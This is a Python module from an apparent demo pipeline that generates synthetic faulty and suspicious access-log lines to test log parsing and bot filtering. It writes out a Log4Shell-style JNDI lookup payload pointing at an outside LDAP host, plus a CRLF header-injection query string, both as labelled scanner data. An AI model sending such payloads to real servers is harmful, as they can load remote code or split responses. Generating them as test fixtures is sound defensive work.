"""Lines of the access log that are no visit, or a visit in an odd form: as bytes, each with its outcome.

Here: faults with exactly one reason each, what was never HTTP, one address that hammers, and good requests
that only look odd. Not here: robots and assets, which are ordinary lines (web_strangers.py, web_hits.py).
"""

from __future__ import annotations

import datetime as dt
from collections import Counter
from dataclasses import dataclass, field

import numpy as np

from persona_pipeline.demo import junk
from persona_pipeline.demo.plan import Plan
from persona_pipeline.demo.seeds import Stream, generator
from persona_pipeline.demo.web_agents import PEOPLE, ROBOTS

WEB_REASONS = ("bad_line", "bad_encoding", "bad_datetime", "future", "too_old", "too_late")
REJECTED = 0.0025  # share of lines, cut at MOST of a day
NOT_HTTP = 0.004
ODD = 0.002
MOST = 60
HAMMER_EVERY = 60  # days per day with a hammering address
HAMMER_MINUTE = 120  # more requests of one address than this in one clock minute are a robot's
HAMMER_FROM = 400  # lines a day below which nobody hammers and no line is too long
TOO_LONG = 1_200_000  # bytes; readers are to stop at 1 MB
INJECTION_EVERY = 16  # days

# NGINX writes bytes that are no printable ASCII as \xHH.
NEVER_HTTP = (
    rb"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xA4\x5E\xC1",
    rb"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03\x22\x88",
    rb"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    rb"SSH-2.0-Go",
    rb"",
    rb"-",
)
_NAMES = tuple(agent for agent in PEOPLE if "Chrome/13" in agent)


@dataclass(slots=True)
class DayDirt:
    """Extra lines of a day's main file by the second at which they stand, and what becomes of them."""

    seconds: list[int] = field(default_factory=list)
    lines: list[bytes] = field(default_factory=list)
    outcomes: Counter[tuple[str, str]] = field(default_factory=Counter)

    def add(self, second: int, line: bytes, outcome: str = "clean", reason: str = "") -> None:
        """One line; it needs no newline."""
        self.seconds.append(second)
        self.lines.append(line + b"\n")
        if outcome != "clean":
            self.outcomes[outcome, reason] += 1

    def by_time(self) -> tuple[np.ndarray, list[bytes]]:
        """Seconds in order, and the lines in the same order."""
        order = np.argsort(np.array(self.seconds, dtype=np.int64), kind="stable")
        return np.array(self.seconds, dtype=np.int64)[order], [self.lines[i] for i in order]


@dataclass(slots=True)
class _Line:
    """The parts of one line, as they stand in the log."""

    at: str
    address: str = "119.123.7.41"
    user: str = "-"
    request: bytes = b"GET / HTTP/1.1"
    status: int = 200
    size: int = 5120
    referrer: bytes = b"-"
    agent: bytes = b""
    cookie: str = "-"

    def text(self) -> bytes:
        return b"".join(
            [
                f'{self.address} - {self.user} [{self.at}] "'.encode(),
                self.request,
                f'" {self.status} {self.size} "'.encode(),
                self.referrer,
                b'" "',
                self.agent,
                f'" "{self.cookie}" 0.021'.encode(),
            ]
        )


def hammer_days(plan: Plan) -> frozenset[int]:
    """Days on which one address hammers."""
    order = generator(plan.seed, Stream.WEB_DIRT).permutation(plan.days)
    return frozenset(order[: max(1, plan.days // HAMMER_EVERY)].tolist())


def day_dirt(plan: Plan, day: int, lines: int, *, hammers: bool, too_long: bool) -> DayDirt:
    """The dirt of a day whose main file has `lines` other lines.

    Args:
        plan: the shop's plan.
        day: day number.
        lines: lines of people and robots; shares are of them.
        hammers: whether one address hammers.
        too_long: whether one line is longer than any reader takes.
    """
    rng = generator(plan.seed, Stream.WEB_DIRT, day, 2)
    dirt = DayDirt()
    for number in range(_share(REJECTED, lines, rng)):
        fitting = [reason for reason in WEB_REASONS if _fits(reason, day)]
        reason = fitting[(day + number) % len(fitting)]
        second = _second(rng)
        dirt.add(second, _faulty(reason, plan, day, second, rng), "rejected", reason)
    for _ in range(_share(NOT_HTTP, lines, rng)):
        second = _second(rng)
        request = NEVER_HTTP[int(rng.integers(len(NEVER_HTTP)))]
        line = _Line(_at(plan.date(day), second), _attacker(rng), request=request, status=400, size=157)
        line.agent = b"-"
        dirt.add(second, line.text(), "filtered", "not_http")
    for number in range(_share(ODD, lines, rng)):
        second = _second(rng)
        dirt.add(second, _odd(day + number, plan, day, second, rng))
    if day % INJECTION_EVERY == 0 and lines >= HAMMER_FROM:
        second = _second(rng)
        dirt.add(second, _injection(plan, day, second, rng), "filtered", "bot")
    if hammers:
        _hammer(plan, day, dirt, rng)
    if too_long:
        second = _second(rng)
        line = _person(plan, day, second, rng)
        pattern = rng.bytes(400).hex().encode()
        line.request = (
            b"GET /search?q=" + (pattern * (TOO_LONG // len(pattern) + 1))[:TOO_LONG] + b" HTTP/1.1"
        )
        dirt.add(second, line.text(), "rejected", "line_too_long")
    return dirt


def _share(share: float, lines: int, rng: np.random.Generator) -> int:
    """A count near the share of the lines; a small day may have none, so that no file is mostly dirt."""
    return min(MOST, int(np.floor(share * lines + rng.random())), lines // 100)


def _fits(reason: str, day: int) -> bool:
    if reason == "too_old":
        return day <= junk.TOO_OLD_UNTIL
    return reason != "too_late" or day >= junk.TOO_LATE_FROM


def _second(rng: np.random.Generator) -> int:
    return int(rng.integers(60, 86_340))


def _at(date: dt.date, second: int) -> str:
    return f"{date:%d/%b/%Y}:{second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d} +0800"


def _attacker(rng: np.random.Generator) -> str:
    return f"45.155.{int(rng.integers(200, 206))}.{int(rng.integers(1, 255))}"


def _person(plan: Plan, day: int, second: int, rng: np.random.Generator) -> _Line:
    """A good line of a person who is seen nowhere else."""
    product = plan.catalogue.product_ids[int(rng.integers(len(plan.catalogue)))]
    return _Line(
        _at(plan.date(day), second),
        f"171.{int(rng.integers(8, 15))}.{int(rng.integers(1, 255))}.{int(rng.integers(1, 255))}",
        request=f"GET /p/{product} HTTP/1.1".encode(),
        size=int(rng.integers(2_000, 40_000)),
        referrer=b"https://www.baidu.com/",
        agent=_NAMES[int(rng.integers(len(_NAMES)))].encode(),
        cookie=rng.bytes(16).hex(),
    )


def _faulty(reason: str, plan: Plan, day: int, second: int, rng: np.random.Generator) -> bytes:
    """A line with exactly one fault."""
    line, date = _person(plan, day, second, rng), plan.date(day)
    match reason:
        case "bad_line":
            whole = line.text()
            # Cut before the agent ends, so that what is left is no shorter format either.
            return whole[: int(rng.integers(20, whole.index(line.agent) + len(line.agent)))]
        case "bad_encoding":
            line.referrer = b"https://www.example.com/caf\xe9"
        case "bad_datetime":
            line.at = line.at.replace(
                f"{date:%d/%b/}", ("30/Feb/", "31/Jun/", "00/Mar/")[int(rng.integers(3))]
            )
        case "future":
            # not within minutes after midnight: so far clocks may differ
            line.at = _at(date + dt.timedelta(days=int(rng.integers(1, 4))), max(second, 3_600))
        case "too_old":
            line.at = _at(plan.start - dt.timedelta(days=int(rng.integers(1, 6))), second)
        case "too_late":
            line.at = _at(date - dt.timedelta(days=junk.TOO_LATE_DAYS + int(rng.integers(5))), second)
        case _:
            raise ValueError(f"no such fault of a log line: {reason!r}")
    return line.text()


def _odd(kind: int, plan: Plan, day: int, second: int, rng: np.random.Generator) -> bytes:
    """A good request of a person in a form that a careless reader breaks on."""
    line = _person(plan, day, second, rng)
    path = line.request.split(b" ")[1]
    match kind % 8:
        case 0:
            line.referrer = rb"https://www.baidu.com/s?wd=\x22gift\x22"
        case 1:
            line.agent = line.agent + rb" \x22Custom\x22 \x5C"
        case 2:
            line.request = b"GET http://www.demo-shop.example" + path + b" HTTP/1.1"
        case 3:
            line.request = rb"GET /search?q=\xB6\xFA\xBB\xFA HTTP/1.1"  # GBK, sent raw
        case 4:
            line.request = b"GET /search?q=%B6%FA%FF HTTP/1.1"
        case 5:
            line.request = b"HEAD " + path + b" HTTP/1.1"
            line.size = 0
        case 6:
            line.request = b"GET /search?q=red+shoes%0D%0ASet-Cookie:x HTTP/3.0"
            line.address = "2408:8207:18a4:2b00::1f"
        case _:
            line.cookie = "-"
            line.referrer = rb"\x1B[2J"
    return line.text()


def _hammer(plan: Plan, day: int, dirt: DayDirt, rng: np.random.Generator) -> None:
    """One address with an ordinary agent, in some minutes far beyond HAMMER_MINUTE requests, never else."""
    address = _attacker(rng)
    for minute in rng.choice(1_438, size=int(rng.integers(1, 4)), replace=False):
        for _ in range(int(rng.integers(HAMMER_MINUTE + 10, 200))):
            second = int(minute + 1) * 60 + int(rng.integers(60))
            line = _person(plan, day, second, rng)
            line.address, line.cookie, line.referrer = address, "-", b"-"
            line.agent = _NAMES[0].encode()
            dirt.add(second, line.text(), "filtered", "bot")


def _injection(plan: Plan, day: int, second: int, rng: np.random.Generator) -> bytes:
    """A lookup string in every free field, sent by a scanner without an agent's name: a robot's line."""
    line = _Line(_at(plan.date(day), second), _attacker(rng), status=404, size=153)
    line.request = b"GET /?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1"
    line.referrer = b"${jndi:ldap://198.51.100.7:1389/b}"
    line.agent = ROBOTS[-2].encode()
    return line.text()
